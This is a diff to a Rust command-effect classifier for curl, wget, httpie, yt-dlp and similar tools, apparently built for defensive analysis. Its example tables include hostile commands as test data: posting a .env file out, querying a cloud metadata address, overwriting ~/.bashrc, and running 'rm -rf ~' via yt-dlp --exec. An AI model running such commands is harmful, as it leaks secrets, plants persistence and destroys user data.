@@ -5,12 +5,13 @@ mod httpie;
 mod wget;
 
 use crate::effects::shell::address::{self, Deed};
+use crate::effects::shell::command::strictly_below;
 use crate::effects::shell::field::{Bit, Field};
 use crate::effects::shell::given::Given;
 use crate::effects::shell::meaning;
 use crate::effects::shell::row::{Output, Row, Style, row};
 use crate::effects::shell::run::Run;
-use crate::effects::{Action, unknown};
+use crate::effects::{Action, Resource, unknown};
 
 const CURL: &str = "-h,--help[=word]/info -V,--version/info -M,--manual/info --abstract-unix-socket=odd --alt-svc=write --anyauth -a,--append --aws-sigv4=word --basic --ca-native --cacert=read --capath=read -E,--cert=word --cert-status --cert-type=word --ciphers=word --compressed --compressed-ssh -K,--config=odd --connect-timeout=word --connect-to=word -C,--continue-at=word -b,--cookie=word -c,--cookie-jar=write --create-dirs --create-file-mode=word --crlf --crlfile=read --curves=word -d,--data,--data-ascii=word --data-binary=word --data-raw=word --data-urlencode=word --delegation=word --digest -q,--disable --disable-eprt --disable-epsv --disallow-username-in-url --dns-interface=word --dns-ipv4-addr=word --dns-ipv6-addr=word --dns-servers=send --doh-cert-status --doh-insecure --doh-url=send -D,--dump-header=write --egd-file=read --engine=odd --etag-compare=read --etag-save=write --expect100-timeout=word -f,--fail --fail-early --fail-with-body --false-start -F,--form=word --form-escape --form-string=word --ftp-account=word --ftp-alternative-to-user=word --ftp-create-dirs --ftp-method=word --ftp-pasv -P,--ftp-port=word --ftp-pret --ftp-skip-pasv-ip --ftp-ssl-ccc --ftp-ssl-control -G,--get -g,--globoff --happy-eyeballs-timeout-ms=word --haproxy-protocol --haproxy-clientip=word -I,--head -H,--header=word --hostpubmd5=word --hostpubsha256=word --hsts=write --http0.9 -0,--http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 --http3-only --ignore-content-length -i,--include,--show-headers -k,--insecure --interface=word --ip-tos=word --ipfs-gateway=send -4,--ipv4 -6,--ipv6 --json=word -j,--junk-session-cookies --keepalive-cnt=word --keepalive-time=word --key=read --key-type=word --krb=word --libcurl=write --limit-rate=word -l,--list-only --local-port=word -L,--location --location-trusted --login-options=word --mail-auth=word --mail-from=word --mail-rcpt=word --mail-rcpt-allowfails --max-filesize=word --max-redirs=word -m,--max-time=word --metalink --negotiate -n,--netrc --netrc-file=read --netrc-optional -:,--next --no-alpn --no-buffer -N --no-clobber --no-keepalive --no-npn --no-progress-meter --no-sessionid --noproxy=word --ntlm --ntlm-wb --oauth2-bearer=word -o,--output=write --output-dir=word -Z,--parallel --parallel-immediate --parallel-max=word --pass=word --path-as-is --pinnedpubkey=word --post301 --post302 --post303 --preproxy=word -#,--progress-bar --progress-meter --proto=word --proto-default=word --proto-redir=word -x,--proxy=word --proxy-anyauth --proxy-basic --proxy-cacert=read --proxy-capath=read --proxy-cert=read --proxy-digest --proxy-header=word --proxy-http2 --proxy-insecure --proxy-key=read --proxy-negotiate --proxy-ntlm --proxy-pass=word --proxy-user=word -U --proxy1.0=word -p,--proxytunnel --pubkey=read -Q,--quote=word --random-file=read -r,--range=word --rate=word --raw -e,--referer=word -J,--remote-header-name -O,--remote-name --remote-name-all -R,--remote-time --remove-on-error -X,--request=word --request-target=word --resolve=word --retry=word --retry-all-errors --retry-connrefused --retry-delay=word --retry-max-time=word --sasl-authzid=word --sasl-ir --service-name=word -S,--show-error -s,--silent --socks4=word --socks4a=word --socks5=word --socks5-basic --socks5-gssapi --socks5-hostname=word -Y,--speed-limit=word -y,--speed-time=word --ssl --ssl-allow-beast --ssl-auto-client-cert --ssl-no-revoke --ssl-reqd --ssl-revoke-best-effort -2,--sslv2 -3,--sslv3 --stderr=write --styled-output --suppress-connect-headers --tcp-fastopen --tcp-nodelay -t,--telnet-option=word --tftp-blksize=word --tftp-no-options -z,--time-cond=word --tls-earlydata --tls-max=word --tls13-ciphers=word --tlsauthtype=word --tlspassword=word --tlsuser=word -1,--tlsv1 --tlsv1.0 --tlsv1.1 --tlsv1.2 --tlsv1.3 --tr-encoding --trace=write --trace-ascii=write --trace-config=word --trace-ids --trace-time --unix-socket=word -T,--upload-file=word --url=word --url-query=word -B,--use-ascii -u,--user=word -A,--user-agent=word --variable=odd -v,--verbose --vlan-priority=word -w,--write-out=word --xattr";
 
@@ -46,12 +47,12 @@ pub(super) const ROWS: &[Row] = &[
         ("curl http://169.254.169.254/latest/", "net.fetch 169.254.169.254; secret.read 169.254.169.254"),
         ("curl --help", ""),
     ]),
-    row("wget", WGET, "word*").also(wget::wget).output(Output::Foreign).examples(&[
+    row("wget wget2", WGET, "word*").also(wget::wget).output(Output::Foreign).examples(&[
         ("wget https://example.org/file.tar.gz", "net.fetch example.org; file.write /workspace/file.tar.gz"),
         ("wget -qO- https://example.org", "net.fetch example.org"),
         ("wget -q --spider https://example.org", "net.fetch example.org"),
         ("wget -P /tmp -nc https://example.org/a", "net.fetch example.org; file.write /tmp/a"),
-        ("wget --mirror https://example.org/x/", "net.fetch example.org; file.write /workspace/**"),
+        ("wget --mirror https://example.org/x/", "net.fetch example.org; file.write /workspace/**/*"),
         ("wget --post-file=.env https://example.org/", "net.send example.org; file.write /workspace/index.html; file.read /workspace/.env; secret.read /workspace/.env"),
         ("wget --method=DELETE https://example.org/a", "net.send example.org; file.write /workspace/a"),
         ("wget -i urls.txt", "file.read /workspace/urls.txt; net.fetch ?; file.write /workspace/*; unknown url_unusual"),
@@ -60,7 +61,8 @@ pub(super) const ROWS: &[Row] = &[
         ("wget --use-askpass=/tmp/x https://example.org/a", "net.fetch example.org; file.write /workspace/a; process.run /tmp/x"),
         ("wget -O ~/.bashrc https://example.org/x", "net.fetch example.org; file.write ~/.bashrc; persistence.install ~/.bashrc"),
     ]),
-    row("http https xh xhs httpie", HTTPIE, "word*").also(httpie::http).output(Output::Foreign).examples(&[
+    row("httpie", "...", "").sub(&[row("cli", "...", "word*"), row("http https", HTTPIE, "word*").also(httpie::http)]),
+    row("http https xh xhs", HTTPIE, "word*").also(httpie::http).output(Output::Foreign).examples(&[
         ("http GET localhost:8000/api/items", "net.fetch localhost:8000"),
         ("http :8000/items q==x 'X-A:b'", "net.fetch localhost:8000"),
         ("http DELETE https://example.org/items/1", "net.send example.org"),
@@ -70,24 +72,24 @@ pub(super) const ROWS: &[Row] = &[
     row("aria2c", "gnu -v -h[=word]/info -d,--dir=word -o,--out=word -i,--input-file=word -x,--max-connection-per-server=word -s,--split=word -j,--max-concurrent-downloads=word -c,--continue[=word] -k,--min-split-size=word -q,--quiet[=word] -l,--log=write -t,--timeout=word -m,--max-tries=word --header=word --referer=word -U,--user-agent=word --http-user=word --http-passwd=word --ftp-user=word --ftp-passwd=word --all-proxy=send --http-proxy=send --https-proxy=send --load-cookies=read --save-cookies=write --check-certificate=word --file-allocation=word --max-download-limit=word --max-overall-download-limit=word --max-upload-limit=word --seed-time=word --seed-ratio=word -S,--show-files --select-file=word --checksum=word -V --allow-overwrite=word --auto-file-renaming=word -Z,--force-sequential[=word] -T,--torrent-file=read -M,--metalink-file=read --enable-rpc[=word]!net.listen --on-download-complete=run --on-download-start=run --on-download-error=run --on-download-stop=run --on-download-pause=run --on-bt-download-complete=run --conf-path=odd --summary-interval=word --console-log-level=word --listen-port=word --enable-dht[=word] --follow-torrent=word", "fetch*")
         .also(|run, given| saved(run, given, "-d", "-o"))
         .examples(&[("aria2c -x 4 https://example.org/a.iso", "net.fetch example.org; file.write /workspace/a.iso")]),
-    row("axel", "gnu -s,--max-speed=word -n,--num-connections=word -o,--output=write -S,--search[=word] -4 -6 -H,--header=word -U,--user-agent=word -N,--no-proxy -k,--insecure -c,--no-clobber -q,--quiet -v,--verbose -a,--alternate -p,--percentage -T,--timeout=word", "fetch*")
+    row("axel", "gnu --ipv4 --ipv6 -s,--max-speed=word -n,--num-connections=word -o,--output=write -S,--search[=word] -4 -6 -H,--header=word -U,--user-agent=word -N,--no-proxy -k,--insecure -c,--no-clobber -q,--quiet -v,--verbose -a,--alternate -p,--percentage -T,--timeout=word", "fetch*")
         .also(|run, given| saved(run, given, "", "-o")),
-    row("lynx links links2 elinks w3m browsh carbonyl", "-help/info -version/info -dump -source -listonly -nolist -nonumbers -width=word -cols=word -display_charset=word -assume_charset=word -accept_all_cookies -useragent=word -hiddenlinks=word -head -T=word -O=word -o=word -auth=word -crawl -traversal -force_html -stdin -nopause -connect_timeout=word -read_timeout=word -cfg=odd -cmd_script=odd -editor=run -post_data!net.send -get_data!net.send -config-file=odd -eval=odd -no-home -dump-width=word -no-numbering -no-references -M -N -B -html-numbered-links=word -width -lookup=fetch -ftp -mime_header -print -unique_urls", "word*")
+    row("lynx links links2 elinks w3m browsh carbonyl", "-help/info -version/info -dump -source -listonly -nolist -nonumbers -width=word -cols=word -display_charset=word -assume_charset=word -accept_all_cookies -useragent=word -hiddenlinks=word -head -T=word -O=word -o=word -auth=word -crawl -traversal -force_html -stdin -nopause -connect_timeout=word -read_timeout=word -cfg=odd -cmd_script=odd -editor=run -post_data!net.send -get_data!net.send -config-file=odd -eval=odd -no-home -dump-width=word -no-numbering -no-references -M -N -B -html-numbered-links=word -width -lookup=fetch -ftp -mime_header -print -unique_urls -anonymous -use_mouse -color -cookie_file=write -no-mouse -enable-cookies=word -g -h/info --startup-url=word -dump-color-mode=word", "word*")
         .style(Style::Dash)
         .also(pages)
         .output(Output::Foreign)
         .examples(&[("lynx -dump https://example.org", "net.fetch example.org"), ("w3m -dump a.html", "file.read /workspace/a.html")]),
-    row("yt-dlp youtube-dl gallery-dl", "-h,--help/info --version/info -U,--update!package.install -i,--ignore-errors --abort-on-error --flat-playlist -x,--extract-audio --audio-format=word --audio-quality=word -f,--format=word -S,--format-sort=word -F,--list-formats --list-subs --write-sub,--write-subs --write-auto-sub,--write-auto-subs --sub-lang,--sub-langs=word --sub-format=word --embed-subs --embed-thumbnail --embed-metadata,--add-metadata -o,--output=word -P,--paths=word -a,--batch-file=read -g,--get-url -e,--get-title --get-id --get-duration --get-filename --get-description -j,--dump-json -J,--dump-single-json -s,--simulate --skip-download -q,--quiet --no-warnings -v,--verbose --yes-playlist --no-playlist -I,--playlist-items=word --playlist-start=word --playlist-end=word --max-downloads=word -r,--limit-rate=word -R,--retries=word -c,--continue --no-continue -w,--no-overwrites --force-overwrites -k,--keep-video --write-thumbnail --write-info-json --write-description --recode-video=word --merge-output-format=word --remux-video=word --date=word --dateafter=word --datebefore=word -u,--username=word -p,--password=word -n,--netrc!secret.read --cookies=read --cookies-from-browser=word!secret.read --proxy=send --user-agent=word --referer=word --add-header=word --restrict-filenames --windows-filenames --no-mtime -N,--concurrent-fragments=word --download-archive=write --exec=shell --exec-before-download=shell --external-downloader,--downloader=word --external-downloader-args,--downloader-args=word --config-location,--config-locations=odd --plugin-dirs=odd --split-chapters --sponsorblock-remove=word --sponsorblock-mark=word --parse-metadata=word --match-filter,--match-filters=word --no-progress --progress --newline -4,--force-ipv4 -6,--force-ipv6 --geo-bypass --default-search=word --dump-user-agent/info --list-extractors/info --print=word --no-check-certificate,--no-check-certificates", "fetch*")
+    row("yt-dlp youtube-dl gallery-dl", "-h,--help/info --version/info -d,--destination=word --get-urls -U,--update!package.install -i,--ignore-errors --abort-on-error --flat-playlist -x,--extract-audio --audio-format=word --audio-quality=word -f,--format=word -S,--format-sort=word -F,--list-formats --list-subs --write-sub,--write-subs --write-auto-sub,--write-auto-subs --sub-lang,--sub-langs=word --sub-format=word --embed-subs --embed-thumbnail --embed-metadata,--add-metadata -o,--output=word -P,--paths=word -a,--batch-file=read -g,--get-url -e,--get-title --get-id --get-duration --get-filename --get-description -j,--dump-json -J,--dump-single-json -s,--simulate --skip-download -q,--quiet --no-warnings -v,--verbose --yes-playlist --no-playlist -I,--playlist-items=word --playlist-start=word --playlist-end=word --max-downloads=word -r,--limit-rate=word -R,--retries=word -c,--continue --no-continue -w,--no-overwrites --force-overwrites -k,--keep-video --write-thumbnail --write-info-json --write-description --recode-video=word --merge-output-format=word --remux-video=word --date=word --dateafter=word --datebefore=word -u,--username=word -p,--password=word -n,--netrc!secret.read --cookies=read --cookies-from-browser=word!secret.read --proxy=send --user-agent=word --referer=word --add-header=word --restrict-filenames --windows-filenames --no-mtime -N,--concurrent-fragments=word --download-archive=write --exec=shell --exec-before-download=shell --external-downloader,--downloader=word --external-downloader-args,--downloader-args=word --config-location,--config-locations=odd --plugin-dirs=odd --split-chapters --sponsorblock-remove=word --sponsorblock-mark=word --parse-metadata=word --match-filter,--match-filters=word --no-progress --progress --newline -4,--force-ipv4 -6,--force-ipv6 --geo-bypass --default-search=word --dump-user-agent/info --list-extractors/info --print=word --no-check-certificate,--no-check-certificates", "fetch*")
         .also(|run, given| {
             let asks = ["-g", "-e", "-j", "-J", "-s", "-F", "--list-subs", "--get-id", "--skip-download", "--print", "--get-duration"];
             if !asks.iter().any(|name| given.has(name)) {
                 let target = given.value("-P").cloned().unwrap_or_else(|| Field::literal("."));
-                meaning::path(run, Action::FILE_WRITE, &target, true);
+                below(run, Action::FILE_WRITE, &target);
             }
         })
         .examples(&[
             ("yt-dlp -F https://example.org/v", "net.fetch example.org"),
-            ("yt-dlp --exec 'rm -rf ~' https://example.org/v", "net.fetch example.org; file.write /workspace/**; file.delete ~/**"),
+            ("yt-dlp --exec 'rm -rf ~' https://example.org/v", "net.fetch example.org; file.write /workspace/**/*; file.delete ~/**"),
         ]),
 ];
 
@@ -102,6 +104,13 @@ fn saved(run: &mut Run<'_>, given: &Given, directory: &str, name: &str) {
                 save_as(run, directory.as_ref(), &file_name(url, Field::of(Bit::Name)));
             }
         }
+    }
+}
+
+/// Does something below a directory, and leaves that.
+pub(super) fn below(run: &mut Run<'_>, action: Action, directory: &Field) {
+    for name in meaning::names(run, directory) {
+        run.effect(action.clone(), Resource::path(strictly_below(name)));
     }
 }
 
